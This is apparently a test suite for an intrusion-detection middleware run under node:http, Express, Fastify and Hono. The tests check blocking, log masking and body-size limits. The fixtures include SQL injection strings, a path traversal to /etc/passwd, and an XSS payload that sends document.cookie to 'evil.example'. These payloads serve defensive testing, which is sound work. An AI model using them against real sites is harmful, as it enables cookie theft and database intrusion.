// The adapters against real servers on loopback: node:http, Express 5, Fastify 5, Hono (+ @hono/node-server).
// Each one must pass ordinary requests through to the handler (with the parsed body), block attacks with
// 403 before the handler runs, log each event as one JSON line with secrets masked, inspect rich-text
// fields in HTML mode and JSON bodies leaf by leaf, and refuse bodies over the cap with 413.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readFileSync, rmSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import express from 'express';
import Fastify, { type FastifyInstance } from 'fastify';
import { Hono } from 'hono';
import { serve, type ServerType } from '@hono/node-server';
import { withIds } from './node.js';
import { idsExpress } from './express.js';
import { idsFastify } from './fastify.js';
import { idsHono, type IdsVariables } from './hono.js';
import type { IdsEvent } from '../event-log.js';

interface Running {
  url: string;
  /** what the application handler saw, by request id */
  seen: Map<string, unknown>;
  stop(): Promise<void>;
}

const MAX_BODY = 64 * 1024;

async function listen(server: Server): Promise<string> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

async function startNode(log: string): Promise<Running> {
  const seen = new Map<string, unknown>();
  const listener = withIds(
    (req, res) => {
      seen.set(String(req.headers['x-test-id']), req.body);
      res.end('ok');
    },
    { log, maxBodyBytes: MAX_BODY },
  );
  const server = createServer(listener);
  const url = await listen(server);
  return {
    url,
    seen,
    stop: async () => {
      server.close();
      await listener.close();
    },
  };
}

async function startExpress(log: string): Promise<Running> {
  const seen = new Map<string, unknown>();
  const app = express();
  const mw = idsExpress({ log, maxBodyBytes: MAX_BODY });
  // the IDS first: it reads and parses the body itself; express.json() afterwards must leave it alone
  app.use(mw, express.json());
  app.all('/{*rest}', (req, res) => {
    seen.set(String(req.headers['x-test-id']), req.body);
    res.send('ok');
  });
  const server = createServer(app);
  const url = await listen(server);
  return {
    url,
    seen,
    stop: async () => {
      server.close();
      await mw.close();
    },
  };
}

async function startFastify(log: string): Promise<Running> {
  const seen = new Map<string, unknown>();
  const app: FastifyInstance = Fastify({ bodyLimit: MAX_BODY });
  await app.register(idsFastify, { log, maxBodyBytes: MAX_BODY });
  app.all('/*', async (req) => {
    seen.set(String(req.headers['x-test-id']), req.body);
    return 'ok';
  });
  const url = await app.listen({ port: 0, host: '127.0.0.1' });
  return { url, seen, stop: () => app.close() };
}

async function startHono(log: string): Promise<Running> {
  const seen = new Map<string, unknown>();
  const app = new Hono<{ Variables: IdsVariables }>();
  const mw = idsHono({ log, maxBodyBytes: MAX_BODY });
  app.use('*', mw);
  app.all('*', async (c) => {
    // the body is still readable after the middleware read it
    const ct = c.req.header('content-type') ?? '';
    const body = ct.includes('json') ? await c.req.json() : ct ? await c.req.parseBody() : undefined;
    seen.set(c.req.header('x-test-id') ?? '', body && typeof body === 'object' ? { ...body } : body);
    return c.text('ok');
  });
  let server!: ServerType;
  await new Promise<void>((resolve) => {
    server = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve());
  });
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url,
    seen,
    stop: async () => {
      server.close();
      await mw.close();
    },
  };
}

const ADAPTERS: [string, (log: string) => Promise<Running>][] = [
  ['node:http', startNode],
  ['Express 5', startExpress],
  ['Fastify 5', startFastify],
  ['Hono', startHono],
];

function form(fields: Record<string, string>): string {
  return new URLSearchParams(fields).toString();
}

function readEvents(file: string): IdsEvent[] {
  if (!existsSync(file)) return [];
  return readFileSync(file, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as IdsEvent);
}

/** Events are written asynchronously: wait until one matches. */
async function waitFor(file: string, pred: (e: IdsEvent) => boolean): Promise<IdsEvent[]> {
  for (let i = 0; i < 100; i++) {
    const ev = readEvents(file);
    if (ev.some(pred)) return ev;
    await new Promise((r) => setTimeout(r, 20));
  }
  return readEvents(file);
}

for (const [name, start] of ADAPTERS) {
  describe(`ids middleware: ${name}`, { timeout: 60_000 }, () => {
    let dir: string;
    let log: string;
    let app: Running;
    before(async () => {
      dir = mkdtempSync(join(tmpdir(), 'civiguard-ids-mw-'));
      log = join(dir, 'events.jsonl');
      app = await start(log);
    });
    after(async () => {
      await app.stop();
      rmSync(dir, { recursive: true, force: true });
    });

    const post = (
      id: string,
      body: string,
      type = 'application/x-www-form-urlencoded',
      path = '/civicrm/contribute/transact',
    ) =>
      fetch(`${app.url}${path}`, {
        method: 'POST',
        headers: { 'content-type': type, 'x-test-id': id },
        body,
      });

    it('passes an ordinary form to the handler with its parsed body', async () => {
      const res = await post(
        'benign',
        form({ first_name: "Siobhán O'Brien", city: 'Tel Aviv-Yafo', note: 'ארוחת ערב 🎉' }),
      );
      assert.equal(res.status, 200);
      assert.equal(await res.text(), 'ok');
      assert.deepEqual(app.seen.get('benign'), {
        first_name: "Siobhán O'Brien",
        city: 'Tel Aviv-Yafo',
        note: 'ארוחת ערב 🎉',
      });
    });

    it('blocks SQL injection with 403 before the handler and logs one masked JSON line', async () => {
      const res = await post(
        'sqli',
        form({
          first_name: "x' UNION SELECT password FROM civicrm_contact -- ",
          password: "hunter2' OR 1=1 -- ",
          card: '4111 1111 1111 1111',
        }),
      );
      assert.equal(res.status, 403);
      assert.equal(app.seen.has('sqli'), false, 'the handler must not run');
      const events = await waitFor(log, (e) => e.fields.some((f) => f.name === 'body.first_name'));
      const ev = events.find((e) => e.fields.some((f) => f.name === 'body.first_name'))!;
      assert.equal(ev.decision, 'block');
      assert.ok(ev.impact >= 75);
      assert.ok(ev.tags.includes('sqli'));
      assert.equal(ev.route, '/civicrm/contribute/transact');
      assert.equal(ev.method, 'POST');
      assert.ok(ev.client === '127.0.0.1' || ev.client === '::ffff:127.0.0.1', `client ${ev.client}`);
      const line = readFileSync(log, 'utf8');
      assert.ok(!line.includes('hunter2'), 'a password must never reach the log');
      const pw = ev.fields.find((f) => f.name === 'body.password');
      assert.match(pw!.excerpt, /^\*\*\* \(\d+ characters\)$/);
      const fn = ev.fields.find((f) => f.name === 'body.first_name')!;
      assert.ok(fn.rules.includes('sqli.union-select'));
    });

    it('inspects a rich-text field in HTML mode: markup passes, script does not', async () => {
      const ok = await post(
        'html-ok',
        form({
          msg_html:
            '<p>Dear {contact.first_name},</p><p><a href="https://example.org/donate">Give</a> <img src="/logo.png" alt="logo"></p>',
        }),
      );
      assert.equal(ok.status, 200);
      const bad = await post(
        'html-bad',
        form({ msg_html: '<p>Hi</p><img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">' }),
      );
      assert.equal(bad.status, 403);
      assert.equal(app.seen.has('html-bad'), false);
    });

    it('inspects a JSON body leaf by leaf, not its syntax', async () => {
      const ok = await post(
        'json-ok',
        JSON.stringify({ contact: { first_name: 'Ann', tags: ['a', 'b'] }, amount: 10 }),
        'application/json',
      );
      assert.equal(ok.status, 200);
      assert.deepEqual(app.seen.get('json-ok'), {
        contact: { first_name: 'Ann', tags: ['a', 'b'] },
        amount: 10,
      });
      const bad = await post(
        'json-bad',
        JSON.stringify({
          contact: { first_name: '<script>alert(document.cookie)</script>', last: "' or sleep(5)#" },
        }),
        'application/json',
      );
      assert.equal(bad.status, 403);
    });

    it('inspects the query and the user agent; a mid-impact value is logged as a warning and passes', async () => {
      const res = await fetch(`${app.url}/civicrm/event/info?id=1%20UNION%20SELECT%20user(),version()--%20`, {
        headers: { 'x-test-id': 'q' },
      });
      assert.equal(res.status, 403);
      const ua = await fetch(`${app.url}/`, {
        headers: { 'x-test-id': 'ua', 'user-agent': "Mozilla/5.0' AND SLEEP(5) AND '1'='1" },
      });
      assert.equal(ua.status, 403);
      const warn = await fetch(`${app.url}/civicrm/file?name=../../etc/passwd`, {
        headers: { 'x-test-id': 'warn' },
      });
      assert.equal(warn.status, 200, 'traversal scored 50–74 is a warning, not a block');
      const events = await waitFor(log, (e) => e.route === '/civicrm/file');
      const ev = events.find((e) => e.route === '/civicrm/file')!;
      assert.equal(ev.decision, 'warn');
      assert.deepEqual(ev.tags.sort(), ['lfi', 'traversal']);
      const isUa = (e: IdsEvent) => e.fields.some((f) => f.name === 'header.user-agent');
      assert.ok((await waitFor(log, isUa)).some(isUa), 'the user agent is inspected and logged');
    });

    it('refuses a body over the cap with 413 (fail closed)', async () => {
      const res = await post('big', form({ notes: 'a'.repeat(MAX_BODY + 10) }));
      assert.equal(res.status, 413);
      assert.equal(app.seen.has('big'), false);
    });
  });
}
